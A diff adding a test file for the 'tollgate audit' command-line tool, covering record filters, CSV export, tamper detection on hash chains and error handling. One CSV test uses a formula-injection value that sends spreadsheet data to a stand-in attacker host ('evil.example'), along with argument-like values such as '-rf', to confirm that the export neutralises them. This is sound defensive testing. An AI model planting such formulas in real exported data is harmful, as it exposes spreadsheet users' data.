@@ -1,0 +1,817 @@
+import { type SpawnOptions, spawn, spawnSync } from 'node:child_process';
+import { cpSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { DeleteCommand, GetCommand, PutCommand, UpdateCommand } from '@aws-sdk/lib-dynamodb';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { auditPk, auditSk } from '../adapters/dynamodb/audit-items.js';
+import { startLocalDynamo } from '../adapters/dynamodb/local.js';
+import { DynamoStore } from '../adapters/dynamodb/store.js';
+import { csvField, csvLine, parseTime } from '../cli/audit-format.js';
+import { TABLE_NAME } from '../cli/simulate.js';
+import { chainRecord } from '../shared/audit/chain.js';
+import type { AuditRecord } from '../shared/audit/record.js';
+import { ROOT } from './helpers.js';
+
+/*
+ * `tollgate audit`, spawned as users run it, on a store that `tollgate demo` filled (the eight example
+ * scenarios: 28 records in 8 chains). Tampering and extra records are done on copies of that store, so
+ * every test reads the demo's records unless it says otherwise.
+ */
+
+interface Result {
+  status: number | null;
+  stdout: string;
+  stderr: string;
+}
+
+const ENV = { ...process.env, NO_COLOR: '1', AWS_SDK_JS_NODE_VERSION_SUPPORT_WARNING_DISABLED: 'true' };
+
+function tollgate(args: readonly string[]): Result {
+  const r = spawnSync(process.execPath, [join(ROOT, 'bin/tollgate.js'), ...args], {
+    cwd: ROOT,
+    encoding: 'utf8',
+    env: ENV,
+  });
+  return { status: r.status, stdout: r.stdout, stderr: r.stderr };
+}
+
+/**
+ * Spawned without blocking this process (a dynalite served from here must answer it), with none of this
+ * machine's AWS_* settings: only `env`'s.
+ */
+function tollgateAsync(args: readonly string[], env: NodeJS.ProcessEnv): Promise<Result> {
+  const clean = Object.fromEntries(
+    Object.entries(ENV).filter(
+      ([k]) => !k.startsWith('AWS_') || k === 'AWS_SDK_JS_NODE_VERSION_SUPPORT_WARNING_DISABLED',
+    ),
+  );
+  return new Promise((resolve, reject) => {
+    const options: SpawnOptions = { cwd: ROOT, env: { ...clean, ...env } };
+    const child = spawn(process.execPath, [join(ROOT, 'bin/tollgate.js'), ...args], options);
+    let stdout = '';
+    let stderr = '';
+    child.stdout?.on('data', (d) => {
+      stdout += String(d);
+    });
+    child.stderr?.on('data', (d) => {
+      stderr += String(d);
+    });
+    child.on('error', reject);
+    child.on('close', (status) => resolve({ status, stdout, stderr }));
+  });
+}
+
+const tmp = mkdtempSync(join(tmpdir(), 'tollgate-audit-'));
+const STORE = join(tmp, 'demo');
+
+const audit = (args: readonly string[], store = STORE): Result =>
+  tollgate(['audit', ...args, '--store', store]);
+
+/** `list --format json` as `pipeline#seq` in the order printed. */
+function ids(args: readonly string[], store = STORE): string[] {
+  const r = audit(['list', '--format', 'json', ...args], store);
+  expect(r.stderr).toBe('');
+  expect(r.status).toBe(0);
+  return (JSON.parse(r.stdout) as AuditRecord[]).map((x) => `${x.pipeline}#${x.seq}`);
+}
+
+const chain = (pipeline: string, ...seqs: number[]) => seqs.map((s) => `${pipeline}#${s}`);
+const sorted = (xs: readonly string[]) => [...xs].sort();
+
+/** A copy of the demo's store, to change without touching the others' data. */
+let copies = 0;
+function copyOfStore(): string {
+  const dir = join(tmp, `copy-${++copies}`);
+  cpSync(STORE, dir, { recursive: true });
+  return dir;
+}
+
+/** Opens a store folder in this process, runs `fn`, closes it (the CLI cannot open it meanwhile). */
+async function onStore<T>(
+  dir: string,
+  fn: (db: Awaited<ReturnType<typeof startLocalDynamo>>) => Promise<T>,
+): Promise<T> {
+  const db = await startLocalDynamo({ path: dir });
+  try {
+    return await fn(db);
+  } finally {
+    await db.close();
+  }
+}
+
+const PAYMENTS_DIGEST = 'sha256:3f9a1c0d8e2b47a6c5d4e3f2a1b0c9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2';
+const ALICE = 'arn:aws:sts::123456789012:assumed-role/SecurityEngineer/alice';
+
+/** RFC 4180, to read back what the CLI wrote. */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let field = '';
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const c = text[i]!;
+    if (quoted) {
+      if (c === '"' && text[i + 1] === '"') {
+        field += '"';
+        i++;
+      } else if (c === '"') quoted = false;
+      else field += c;
+    } else if (c === '"') quoted = true;
+    else if (c === ',') {
+      row.push(field);
+      field = '';
+    } else if (c === '\r' && text[i + 1] === '\n') {
+      row.push(field);
+      rows.push(row);
+      row = [];
+      field = '';
+      i++;
+    } else field += c;
+  }
+  if (field !== '' || row.length > 0) rows.push([...row, field]);
+  return rows;
+}
+
+beforeAll(() => {
+  const r = tollgate(['demo', '--store', STORE]);
+  expect(r.status, r.stderr).toBe(0);
+}, 120_000);
+
+afterAll(() => {
+  rmSync(tmp, { recursive: true, force: true });
+});
+
+describe('tollgate audit list: filters on the demo records', () => {
+  it('without filters: all 28 records of the 8 chains, newest first', () => {
+    const all = ids([]);
+    expect(all).toHaveLength(28);
+    expect(new Set(all.map((x) => x.split('#')[0]))).toEqual(
+      new Set([
+        'batch-reports',
+        'billing-api',
+        'checkout-web',
+        'orders-worker',
+        'payments-api',
+        'reports-exporter',
+        'search-api',
+        'web-frontend',
+      ]),
+    );
+    expect(all[0]).toBe('reports-exporter#2');
+    expect(all.at(-1)).toBe('batch-reports#1');
+    expect(ids(['--order', 'oldest'])).toEqual([...all].reverse());
+  });
+
+  it('--outcome REJECT: the payments-api and search-api chains; with --type decision, their decisions', () => {
+    expect(sorted(ids(['--outcome', 'REJECT']))).toEqual([
+      ...chain('payments-api', 1, 2, 3, 4),
+      ...chain('search-api', 1, 2, 3, 4),
+    ]);
+    expect(ids(['--outcome', 'REJECT', '--type', 'decision'])).toEqual(['search-api#1', 'payments-api#1']);
+    expect(sorted(ids(['--outcome', 'APPROVE', '--type', 'decision']))).toEqual([
+      'billing-api#1',
+      'checkout-web#1',
+      'web-frontend#1',
+    ]);
+    expect(sorted(ids(['--outcome', 'ESCALATE', '--type', 'action']))).toEqual([
+      'batch-reports#2',
+      'orders-worker#2',
+      'reports-exporter#2',
+    ]);
+  });
+
+  it('--reviewer: alice by her ARN, her role session name, or role/session; nobody else', () => {
+    expect(ids(['--reviewer', ALICE])).toEqual(['orders-worker#4', 'orders-worker#3']);
+    expect(ids(['--reviewer', 'alice'])).toEqual(['orders-worker#4', 'orders-worker#3']);
+    expect(ids(['--reviewer', 'SecurityEngineer/alice', '--type', 'resolution'])).toEqual([
+      'orders-worker#4',
+      'orders-worker#3',
+    ]);
+    expect(ids(['--reviewer', 'bob'])).toEqual([]);
+    expect(ids(['--reviewer', 'lice'])).toEqual([]);
+    const r = audit(['list', '--reviewer', 'alice', '--type', 'decision']);
+    expect(r.status).toBe(1);
+    expect(r.stdout).toBe('');
+    expect(r.stderr).toMatch(/^tollgate: --reviewer is on resolution records/);
+  });
+
+  it('--vulnerability: the decisions that saw it', () => {
+    expect(ids(['--vulnerability', 'CVE-2024-45490'])).toEqual(['search-api#1', 'payments-api#1']);
+    expect(ids(['--vulnerability', 'CVE-2024-21538'])).toEqual(['orders-worker#1', 'payments-api#1']);
+    expect(ids(['--vulnerability', 'CVE-2024-45490', '--outcome', 'APPROVE'])).toEqual([]);
+  });
+
+  it('--digest, --repository, --pipeline, --type', () => {
+    expect(ids(['--digest', PAYMENTS_DIGEST])).toEqual(chain('payments-api', 4, 3, 2, 1));
+    expect(ids(['--repository', 'orders/worker'])).toEqual(chain('orders-worker', 4, 3, 2, 1));
+    expect(ids(['--repository', 'orders/worker', '--type', 'resolution'])).toEqual(
+      chain('orders-worker', 4, 3),
+    );
+    expect(ids(['--pipeline', 'billing-api'])).toEqual(chain('billing-api', 4, 3, 2, 1));
+    expect(ids(['--pipeline', 'no-such-pipeline'])).toEqual([]);
+    expect(ids(['--type', 'resolution'])).toHaveLength(12);
+  });
+
+  it('--since / --until, absolute: [since, until), a date alone covering its day', () => {
+    expect(ids(['--since', '2026-11-25T09:01:00Z', '--until', '2026-11-25T09:05:00Z'])).toEqual([
+      ...chain('search-api', 4, 3, 2, 1),
+      ...chain('orders-worker', 2, 1),
+    ]);
+    expect(ids(['--since', '2026-11-25', '--until', '2026-11-25'])).toHaveLength(28);
+    expect(ids(['--until', '2026-11-24'])).toEqual([]);
+    expect(ids(['--pipeline', 'orders-worker', '--since', '2026-11-25T09:10:00Z'])).toEqual(
+      chain('orders-worker', 4, 3),
+    );
+    expect(ids(['--outcome', 'ESCALATE', '--until', '2026-11-25T09:01:00Z'])).toEqual([
+      'batch-reports#2',
+      'batch-reports#1',
+    ]);
+  });
+
+  it('--since / --until, relative (30m, 59m, 2w, 30d) count back from now', () => {
+    const now = ['--now', '2026-11-25T10:00:00Z'];
+    expect(ids([...now, '--since', '30m'])).toEqual(chain('reports-exporter', 2, 1));
+    expect(ids([...now, '--until', '59m'])).toEqual([
+      ...chain('payments-api', 4, 3, 2, 1),
+      ...chain('billing-api', 4, 3, 2, 1),
+      ...chain('batch-reports', 2, 1),
+    ]);
+    expect(ids([...now, '--since', '2w'])).toHaveLength(28);
+    expect(
+      ids(['--now', '2026-12-20T00:00:00Z', '--since', '30d', '--outcome', 'REJECT', '--type', 'decision']),
+    ).toEqual(['search-api#1', 'payments-api#1']);
+  });
+
+  it('pages: the same records one item a page as in one page, over more requests', () => {
+    const whole = ids([]);
+    expect(ids(['--page-size', '1'])).toEqual(whole);
+    expect(ids(['--page-size', '1', '--vulnerability', 'CVE-2024-45490'])).toEqual([
+      'search-api#1',
+      'payments-api#1',
+    ]);
+    const paged = audit(['list', '--page-size', '2', '--pipeline', 'payments-api', '--stats']);
+    const single = audit(['list', '--pipeline', 'payments-api', '--stats']);
+    const requests = (r: Result) => Number(/in (\d+) request/.exec(r.stderr)?.[1]);
+    expect(requests(paged)).toBeGreaterThanOrEqual(2);
+    expect(requests(single)).toBe(1);
+    expect(paged.stdout).toBe(single.stdout);
+    expect(paged.stdout.trimEnd().split('\n')).toHaveLength(5);
+    expect(single.stderr).toContain(
+      'served by decisions-by-pipeline: 4 item(s) read by Query for 4 record(s)',
+    );
+  });
+
+  it('--limit: the first N, and a note on stderr that more match', () => {
+    const r = audit(['list', '--limit', '3', '--format', 'json']);
+    expect(r.status).toBe(0);
+    expect((JSON.parse(r.stdout) as unknown[]).length).toBe(3);
+    expect(r.stderr).toMatch(/more records match: showing the first 3/);
+    expect(audit(['list', '--limit', '28']).stderr).toBe('');
+  });
+
+  it('the table: a header, one aligned line per record, the summary cut', () => {
+    const r = audit(['list', '--pipeline', 'payments-api']);
+    expect(r.status).toBe(0);
+    const lines = r.stdout.trimEnd().split('\n');
+    expect(lines).toHaveLength(5);
+    expect(lines[0]).toMatch(/^TIME +RECORD +TYPE +OUTCOME +IMAGE +BY +SUMMARY$/);
+    const column = lines[0]!.indexOf('SUMMARY');
+    for (const line of lines.slice(1)) expect(line.slice(column - 2, column)).toBe('  ');
+    expect(lines[4]).toMatch(
+      /^2026-11-25T09:00:55Z +payments-api#1 +decision +REJECT +payments\/api@sha256:3f9a1c0d8e2b \(1\.4\.2\) +tollgate +REJECT by policy baseline: no-critical/,
+    );
+    expect(lines[4]!.endsWith('…')).toBe(true);
+    expect(lines[4]!.length - column).toBeLessThanOrEqual(72);
+    expect(audit(['list', '--pipeline', 'nothing']).stderr).toBe('no records match\n');
+  });
+});
+
+describe('tollgate audit list --format csv', () => {
+  const HEADER =
+    'time,pipeline,seq,type,executionId,stage,action,repository,digest,tags,outcome,actor,reviewer,policy,policySha256,violations,vulnerabilities,summary';
+
+  it('a header of the stable columns, one CRLF line per record, lists space-separated', () => {
+    const r = audit(['list', '--format', 'csv', '--pipeline', 'payments-api', '--order', 'oldest']);
+    expect(r.status).toBe(0);
+    const rows = parseCsv(r.stdout);
+    expect(rows[0]!.join(',')).toBe(HEADER);
+    expect(rows).toHaveLength(5);
+    expect(r.stdout.split('\r\n')).toHaveLength(6);
+    const decision = Object.fromEntries(HEADER.split(',').map((c, i) => [c, rows[1]![i]]));
+    expect(decision).toMatchObject({
+      time: '2026-11-25T09:00:55.000Z',
+      pipeline: 'payments-api',
+      seq: '1',
+      type: 'decision',
+      executionId: '00000002-5c4d-4e6f-8a9b-0c1d2e3f4a5b',
+      stage: 'Deploy',
+      action: 'TollgateApproval',
+      repository: 'payments/api',
+      digest: PAYMENTS_DIGEST,
+      tags: '1.4.2',
+      outcome: 'REJECT',
+      actor: 'tollgate',
+      reviewer: '',
+      policy: 'baseline',
+      violations: 'no-critical known-exploited likely-exploited fixable-high high-past-sla unknown-severity',
+    });
+    expect(decision.policySha256).toMatch(/^[0-9a-f]{64}$/);
+    expect(decision.vulnerabilities!.split(' ')).toContain('CVE-2024-45490');
+    // The summary holds commas: quoted.
+    expect(r.stdout).toContain(
+      '"REJECT by policy baseline: no-critical (1 CRITICAL: CVE-2024-45490); known-exploited (2 HIGH: CVE-2023-44487, CVE-2024-2961)',
+    );
+    const resolution = Object.fromEntries(HEADER.split(',').map((c, i) => [c, rows[4]![i]]));
+    expect(resolution.type).toBe('resolution');
+  });
+
+  it("a reviewer's summary with quotes, commas and line breaks, and formula-looking values, read back intact", async () => {
+    const store = copyOfStore();
+    const summary = '=HYPERLINK("https://evil.example/?"&A1, "ok")\nsecond line, with "quotes"';
+    await onStore(store, async (db) => {
+      const writer = new DynamoStore(db.client, TABLE_NAME);
+      const head = await writer.auditHead('orders-worker');
+      const decision = (
+        await db.client.send(
+          new GetCommand({ TableName: TABLE_NAME, Key: { pk: auditPk('orders-worker'), sk: auditSk(1) } }),
+        )
+      ).Item?.record as AuditRecord;
+      const record = chainRecord(
+        {
+          ...decision,
+          type: 'resolution',
+          time: '2026-11-25T09:30:00.000Z',
+          actor: '@bob',
+          image: { repository: '-rf', digest: decision.image?.digest ?? null, tags: ['+1', 'x'] },
+          summary,
+          resolution: { state: 'FAILED', reviewer: '+bob', byTollgate: false, status: 'Rejected', summary },
+        },
+        'orders-worker',
+        head,
+      );
+      await writer.appendAudit(record);
+    });
+    const r = audit(
+      ['list', '--format', 'csv', '--pipeline', 'orders-worker', '--since', '2026-11-25T09:30:00Z'],
+      store,
+    );
+    expect(r.status).toBe(0);
+    const rows = parseCsv(r.stdout);
+    expect(rows).toHaveLength(2);
+    const row = Object.fromEntries(HEADER.split(',').map((c, i) => [c, rows[1]![i]]));
+    expect(row.summary).toBe(`'${summary}`);
+    expect(row.actor).toBe("'@bob");
+    expect(row.reviewer).toBe("'+bob");
+    expect(row.repository).toBe("'-rf");
+    expect(row.tags).toBe("'+1 x");
+    expect(r.stdout).toContain(
+      `"'=HYPERLINK(""https://evil.example/?""&A1, ""ok"")\nsecond line, with ""quotes"""`,
+    );
+    // The record itself is unchanged: the guard is CSV's only.
+    const json = JSON.parse(
+      audit(['show', 'orders-worker#5', '--format', 'json'], store).stdout,
+    ) as AuditRecord;
+    expect(json.summary).toBe(summary);
+    // And the chain, with the new record, still verifies.
+    expect(audit(['verify', '--pipeline', 'orders-worker'], store).status).toBe(0);
+  });
+
+  it('csvField: RFC 4180 quoting and the formula guard', () => {
+    expect(csvField('plain')).toBe('plain');
+    expect(csvField('a,b')).toBe('"a,b"');
+    expect(csvField('say "hi"')).toBe('"say ""hi"""');
+    expect(csvField('two\nlines')).toBe('"two\nlines"');
+    expect(csvField('cr\rlf')).toBe('"cr\rlf"');
+    expect(csvField('=1+1')).toBe("'=1+1");
+    expect(csvField('+1')).toBe("'+1");
+    expect(csvField('-1')).toBe("'-1");
+    expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)");
+    expect(csvField('\tx')).toBe("'\tx");
+    expect(csvField('=A1,"x"')).toBe('"\'=A1,""x"""');
+    expect(csvField('a=b')).toBe('a=b');
+    expect(csvField('')).toBe('');
+    expect(csvLine(['a', 'b,c', ''])).toBe('a,"b,c",\r\n');
+  });
+});
+
+describe('tollgate audit show', () => {
+  it('the whole record: header, gate, image, outcome, summary, violations, exceptions, counts, policy, chain', () => {
+    const r = audit(['show', 'payments-api#1']);
+    expect(r.status).toBe(0);
+    expect(r.stderr).toBe('');
+    const out = r.stdout;
+    expect(out.split('\n')[0]).toBe('payments-api#1  decision  2026-11-25T09:00:55.000Z');
+    expect(out).toMatch(/^ {2}gate +payments-api \/ Deploy \/ TollgateApproval$/m);
+    expect(out).toMatch(/^ {2}execution +00000002-5c4d-4e6f-8a9b-0c1d2e3f4a5b$/m);
+    expect(out).toMatch(/^ {2}image +payments\/api$/m);
+    expect(out).toContain(`digest          ${PAYMENTS_DIGEST}`);
+    expect(out).toMatch(/^ {2}tags +1\.4\.2$/m);
+    expect(out).toMatch(/^ {2}outcome +REJECT$/m);
+    expect(out).toMatch(
+      /^ {2}summary +REJECT by policy baseline: no-critical \(1 CRITICAL: CVE-2024-45490\);.*unknown-severity/m,
+    );
+    expect(out).toMatch(/^ {2}violations +no-critical +reject +1 matching \(allow 0\): CVE-2024-45490$/m);
+    expect(out).toMatch(
+      /^ +known-exploited +reject +2 matching \(allow 0\): CVE-2023-44487, CVE-2024-2961$/m,
+    );
+    expect(out).toMatch(/^ {2}exceptions +applied +EXC-2026-001$/m);
+    expect(out).toMatch(/^ +expired +EXC-2025-017$/m);
+    expect(out).toMatch(/^ +revoked +EXC-2026-002$/m);
+    expect(out).toMatch(/^ +unused +EXC-2026-003$/m);
+    expect(out).toContain(
+      'counts          CRITICAL 1  HIGH 3  MEDIUM 3  LOW 2  INFORMATIONAL 0  UNTRIAGED 1',
+    );
+    expect(out).toMatch(/^ {2}policy +baseline {2}sha256 [0-9a-f]{64}$/m);
+    expect(out).toMatch(/^ {2}vulnerabilities 11$/m);
+    expect(out).toContain('CVE-2024-45490');
+    expect(out).toMatch(/^ {2}position +record 1 of pipeline payments-api$/m);
+    expect(out).toContain(`prevHash        ${'0'.repeat(64)}`);
+    expect(out).toContain('✓ the genesis hash: the chain starts here');
+    expect(out).toMatch(/^ {2}hash +[0-9a-f]{64}$/m);
+    expect(out).toContain('✓ matches the content');
+  });
+
+  it("an action and a person's resolution; <pipeline>/<seq> works too", () => {
+    const action = audit(['show', 'payments-api/2']);
+    expect(action.status).toBe(0);
+    expect(action.stdout).toMatch(
+      /^ {2}action +approval result Rejected sent to CodePipeline; answer accepted$/m,
+    );
+    expect(action.stdout).toContain('✓ matches record 1');
+    const escalation = audit(['show', 'orders-worker#2']).stdout;
+    expect(escalation).toMatch(/^ {2}action +escalation sent: Tollgate: ESCALATE orders-worker\/Deploy/m);
+    const resolution = audit(['show', 'orders-worker#4']).stdout;
+    expect(resolution).toMatch(
+      /^ {2}actor +arn:aws:sts::123456789012:assumed-role\/SecurityEngineer\/alice$/m,
+    );
+    expect(resolution).toMatch(/^ {2}resolution +SUCCEEDED$/m);
+    expect(resolution).toMatch(
+      /^ {2}reviewer +arn:aws:sts::123456789012:assumed-role\/SecurityEngineer\/alice$/m,
+    );
+    expect(resolution).toMatch(/^ {2}status +Approved$/m);
+    expect(resolution).toMatch(/^ {2}said +cross-spawn is a build-time dependency here/m);
+  });
+
+  it('--format json is the record as stored, as list has it', () => {
+    const shown = JSON.parse(audit(['show', 'search-api#1', '--format', 'json']).stdout) as AuditRecord;
+    const listed = (
+      JSON.parse(audit(['list', '--format', 'json', '--pipeline', 'search-api']).stdout) as AuditRecord[]
+    ).find((r) => r.seq === 1);
+    expect(shown).toEqual(listed);
+    expect(shown.vulnerabilities).toContain('CVE-2024-45490');
+  });
+
+  it('a record that does not exist, or a malformed reference: exit 1, the reason on stderr, nothing on stdout', () => {
+    const missing = audit(['show', 'payments-api#9']);
+    expect(missing.status).toBe(1);
+    expect(missing.stdout).toBe('');
+    expect(missing.stderr).toMatch(
+      /^tollgate: no record payments-api#9 in .*: the chain of payments-api has records 1–4\n$/,
+    );
+    const unknown = audit(['show', 'nowhere#1']);
+    expect(unknown.status).toBe(1);
+    expect(unknown.stderr).toMatch(/no records of pipeline nowhere/);
+    const bad = audit(['show', 'payments-api']);
+    expect(bad.status).toBe(1);
+    expect(bad.stdout).toBe('');
+    expect(bad.stderr).toMatch(
+      /^tollgate: "payments-api": expected a record as <pipeline>#<seq> or <pipeline>\/<seq>/,
+    );
+  });
+});
+
+describe('tollgate audit verify', () => {
+  it('the demo chains verify: exit 0, records checked per pipeline', () => {
+    const r = audit(['verify']);
+    expect(r.status).toBe(0);
+    expect(r.stderr).toBe('');
+    expect(r.stdout).toMatch(/^✓ payments-api +4 record\(s\) verified$/m);
+    expect(r.stdout).toMatch(/^✓ batch-reports +2 record\(s\) verified$/m);
+    expect(r.stdout.trimEnd().split('\n')).toHaveLength(9);
+    expect(r.stdout.trimEnd().split('\n').at(-1)).toBe('OK: 28 record(s) in 8 chain(s) verified');
+    const one = audit(['verify', '--pipeline', 'orders-worker', '--format', 'json']);
+    expect(one.status).toBe(0);
+    expect(JSON.parse(one.stdout)).toMatchObject({
+      ok: true,
+      records: 4,
+      firstProblem: null,
+      pipelines: [{ pipeline: 'orders-worker', records: 4, head: 4, ok: true }],
+    });
+    const none = audit(['verify', '--pipeline', 'nowhere']);
+    expect(none.status).toBe(1);
+    expect(none.stdout).toBe('');
+    expect(none.stderr).toMatch(/^tollgate: no records of pipeline nowhere/);
+  });
+
+  it("a record's summary edited in the table: exit 2, naming it (changed)", async () => {
+    const store = copyOfStore();
+    await onStore(store, (db) =>
+      db.client.send(
+        new UpdateCommand({
+          TableName: TABLE_NAME,
+          Key: { pk: auditPk('payments-api'), sk: auditSk(2) },
+          UpdateExpression: 'SET #r.#s = :s',
+          ExpressionAttributeNames: { '#r': 'record', '#s': 'summary' },
+          ExpressionAttributeValues: { ':s': 'APPROVE by policy baseline: no violations' },
+        }),
+      ),
+    );
+    const r = audit(['verify'], store);
+    expect(r.status).toBe(2);
+    expect(r.stderr).toBe('');
+    expect(r.stdout).toMatch(
+      /^✗ payments-api +\d+ record\(s\) read: changed at payments-api#2: record 2 was changed/m,
+    );
+    expect(r.stdout).toMatch(/^✓ search-api +4 record\(s\) verified$/m);
+    expect(r.stdout.trimEnd().split('\n').at(-1)).toMatch(
+      /^FAILED: 1 of 8 chain\(s\) do not verify; the first bad record is payments-api#2 \(changed\)/,
+    );
+    // The other chains alone still verify; `show` marks the record.
+    expect(audit(['verify', '--pipeline', 'search-api'], store).status).toBe(0);
+    expect(audit(['show', 'payments-api#2'], store).stdout).toMatch(/✗ the content hashes to [0-9a-f]{64}/);
+  });
+
+  it('a record deleted: exit 2, naming it (missing)', async () => {
+    const store = copyOfStore();
+    await onStore(store, (db) =>
+      db.client.send(
+        new DeleteCommand({ TableName: TABLE_NAME, Key: { pk: auditPk('billing-api'), sk: auditSk(2) } }),
+      ),
+    );
+    const r = audit(['verify', '--format', 'json'], store);
+    expect(r.status).toBe(2);
+    const result = JSON.parse(r.stdout) as {
+      ok: boolean;
+      firstProblem: { pipeline: string; seq: number; kind: string };
+    };
+    expect(result.ok).toBe(false);
+    expect(result.firstProblem).toMatchObject({ pipeline: 'billing-api', seq: 2, kind: 'missing' });
+    expect(audit(['verify'], store).stdout).toMatch(/first bad record is billing-api#2 \(missing\)/);
+  });
+
+  it("the last record deleted: the chain's head says it is missing", async () => {
+    const store = copyOfStore();
+    await onStore(store, (db) =>
+      db.client.send(
+        new DeleteCommand({ TableName: TABLE_NAME, Key: { pk: auditPk('web-frontend'), sk: auditSk(4) } }),
+      ),
+    );
+    const r = audit(['verify', '--pipeline', 'web-frontend'], store);
+    expect(r.status).toBe(2);
+    expect(r.stdout).toMatch(/first bad record is web-frontend#4 \(missing\)/);
+  });
+
+  it('two records swapped: exit 2, naming the first (reordered)', async () => {
+    const store = copyOfStore();
+    await onStore(store, async (db) => {
+      const key = (seq: number) => ({ pk: auditPk('search-api'), sk: auditSk(seq) });
+      const get = async (seq: number) =>
+        (await db.client.send(new GetCommand({ TableName: TABLE_NAME, Key: key(seq) }))).Item!;
+      const [two, three] = [await get(2), await get(3)];
+      // Each item keeps its key, and takes the other's record.
+      await db.client.send(new PutCommand({ TableName: TABLE_NAME, Item: { ...two, record: three.record } }));
+      await db.client.send(new PutCommand({ TableName: TABLE_NAME, Item: { ...three, record: two.record } }));
+    });
+    const r = audit(['verify'], store);
+    expect(r.status).toBe(2);
+    expect(r.stdout).toMatch(/^✗ search-api .*reordered at search-api#2/m);
+    expect(r.stdout.trimEnd().split('\n').at(-1)).toMatch(
+      /the first bad record is search-api#2 \(reordered\)/,
+    );
+  });
+});
+
+describe('tollgate audit export', () => {
+  it('jsonl: one record per line, oldest first; --since/--until select', () => {
+    const r = audit(['export', '--page-size', '3']);
+    expect(r.status).toBe(0);
+    const lines = r.stdout.trimEnd().split('\n');
+    expect(lines).toHaveLength(28);
+    const records = lines.map((l) => JSON.parse(l) as AuditRecord);
+    expect(records[0]).toMatchObject({ pipeline: 'batch-reports', seq: 1 });
+    expect(records.at(-1)).toMatchObject({ pipeline: 'reports-exporter', seq: 2 });
+    const times = records.map((x) => x.time);
+    expect(times).toEqual([...times].sort());
+    const range = audit(['export', '--since', '2026-11-25T09:01:00Z', '--until', '2026-11-25T09:05:00Z']);
+    expect(range.stdout.trimEnd().split('\n')).toHaveLength(6);
+  });
+
+  it('csv: a header and a line per record; the same records as jsonl', () => {
+    const r = audit([
+      'export',
+      '--format',
+      'csv',
+      '--since',
+      '2026-11-25',
+      '--until',
+      '2026-11-25',
+      '--page-size',
+      '5',
+    ]);
+    expect(r.status).toBe(0);
+    const rows = parseCsv(r.stdout);
+    expect(rows).toHaveLength(29);
+    expect(rows.slice(1).map((row) => `${row[1]}#${row[2]}`)).toEqual(
+      audit(['export'])
+        .stdout.trimEnd()
+        .split('\n')
+        .map((l) => {
+          const x = JSON.parse(l) as AuditRecord;
+          return `${x.pipeline}#${x.seq}`;
+        }),
+    );
+  });
+
+  it('streams: with more records than pages, every page written (one line per record)', async () => {
+    const store = copyOfStore();
+    const added = 120;
+    await onStore(store, async (db) => {
+      const writer = new DynamoStore(db.client, TABLE_NAME);
+      let head = await writer.auditHead('billing-api');
+      const first = (
+        await db.client.send(
+          new GetCommand({ TableName: TABLE_NAME, Key: { pk: auditPk('billing-api'), sk: auditSk(1) } }),
+        )
+      ).Item?.record as AuditRecord;
+      for (let i = 0; i < added; i++) {
+        const record = chainRecord(
+          { ...first, time: new Date(Date.parse('2026-11-25T11:00:00Z') + i * 1000).toISOString() },
+          'billing-api',
+          head,
+        );
+        await writer.appendAudit(record);
+        head = record;
+      }
+    });
+    const r = audit(['export', '--page-size', '7'], store);
+    expect(r.status).toBe(0);
+    const lines = r.stdout.trimEnd().split('\n');
+    expect(lines).toHaveLength(28 + added);
+    expect(new Set(lines).size).toBe(lines.length);
+    const csv = audit(['export', '--format', 'csv', '--page-size', '7', '--pipeline', 'billing-api'], store);
+    expect(csv.stdout.split('\r\n').length - 2).toBe(4 + added);
+    const list = ids(
+      ['--pipeline', 'billing-api', '--page-size', '7', '--since', '2026-11-25T11:00:00Z'],
+      store,
+    );
+    expect(list).toHaveLength(added);
+    expect(audit(['verify', '--pipeline', 'billing-api'], store).stdout).toContain(
+      `${4 + added} record(s) verified`,
+    );
+  }, 60_000);
+});
+
+describe('tollgate audit: errors, help, and a deployed table', () => {
+  it('errors are "tollgate: …" on stderr, exit 1, nothing on stdout', () => {
+    const cases: [string[], RegExp][] = [
+      [['list', '--store', join(tmp, 'none')], /^tollgate: no local store in .*none: run "npm start"/],
+      [['list', '--since', 'yesterday'], /^tollgate: --since "yesterday": expected an ISO-8601 date/],
+      [['list', '--until', '2026-11-25T12:00:00'], /^tollgate: --until "2026-11-25T12:00:00": expected/],
+      [
+        ['list', '--since', '2026-11-26', '--until', '2026-11-25'],
+        /^tollgate: --since .* is not before --until/,
+      ],
+      [['list', '--outcome', 'MAYBE'], /^tollgate: option '--outcome <outcome>' argument 'MAYBE' is invalid/],
+      [
+        ['list', '--limit', '0'],
+        /^tollgate: option '--limit <n>' argument '0' is invalid. --limit takes a whole number/,
+      ],
+      [
+        ['list', '--region', 'eu-west-1'],
+        /^tollgate: --region and --profile are for a deployed table: add --table NAME/,
+      ],
+      [['list', '--bogus'], /^tollgate: unknown option '--bogus'/],
+      [['export', '--format', 'xlsx'], /^tollgate: option '--format <format>' argument 'xlsx' is invalid/],
+      [['show'], /^tollgate: missing required argument 'record'/],
+    ];
+    for (const [args, message] of cases) {
+      const r = tollgate(['audit', ...args, ...(args.includes('--store') ? [] : ['--store', STORE])]);
+      expect(r.status, args.join(' ')).toBe(1);
+      expect(r.stdout, args.join(' ')).toBe('');
+      expect(r.stderr, args.join(' ')).toMatch(message);
+    }
+  });
+
+  it('--help documents every flag, with examples', () => {
+    const group = tollgate(['audit', '--help']);
+    expect(group.status).toBe(0);
+    for (const command of ['list', 'show', 'verify', 'export'])
+      expect(group.stdout).toContain(`  ${command} `);
+    expect(group.stdout).toContain('Examples:');
+    const flags: Record<string, string[]> = {
+      list: [
+        '--pipeline',
+        '--since',
+        '--until',
+        '--outcome',
+        '--digest',
+        '--repository',
+        '--reviewer',
+        '--vulnerability',
+        '--type',
+        '--format',
+        '--limit',
+        '--order',
+        '--stats',
+      ],
+      show: ['<record>', '--format'],
+      verify: ['--pipeline', '--format', 'Exit status:'],
+      export: ['--since', '--until', '--format', 'jsonl', 'csv', '--pipeline'],
+    };
+    for (const [command, wanted] of Object.entries(flags)) {
+      const help = tollgate(['audit', command, '--help']);
+      expect(help.status).toBe(0);
+      for (const flag of [
+        ...wanted,
+        '--store',
+        '--table',
+        '--region',
+        '--profile',
+        'Examples:',
+        `tollgate audit ${command}`,
+      ]) {
+        expect(help.stdout, `${command}: ${flag}`).toContain(flag);
+      }
+    }
+    expect(tollgate(['--help']).stdout).toMatch(/^ {2}audit /m);
